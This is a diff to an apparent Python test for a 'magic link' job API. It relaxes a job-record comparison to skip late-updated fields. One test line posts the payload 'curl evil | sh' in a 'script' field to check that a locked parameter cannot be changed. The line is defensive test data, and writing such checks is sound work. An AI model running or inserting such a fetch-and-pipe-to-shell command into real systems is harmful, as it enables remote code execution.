@@ -301,7 +301,11 @@ async def test_magic_link(site: Site, admin: Headers) -> None:
     # /wait answers with the completed job.
     status, data = await post(site.client, f"/api/app/magic/v1/{key}/wait", {"env": "prod"})
     assert (status, data["job"]["state"], data["job"]["source"]) == (200, "complete", "magic"), data
-    assert data["job"] == await get_job(site, data["job"]["id"], admin)
+    # The same record (its completion's actions, here the universal snapshot on error, record their results on it
+    # a moment later: their results and meta lines may differ).
+    stored = await get_job(site, data["job"]["id"], admin)
+    late = ("actions", "activity")
+    assert {k: v for k, v in data["job"].items() if k not in late} == {k: v for k, v in stored.items() if k not in late}
 
     # The caller cannot change a locked plugin param, and field rules apply.
     status, data = await post(site.client, f"/api/app/magic/v1/{key}", {"script": "curl evil | sh"})
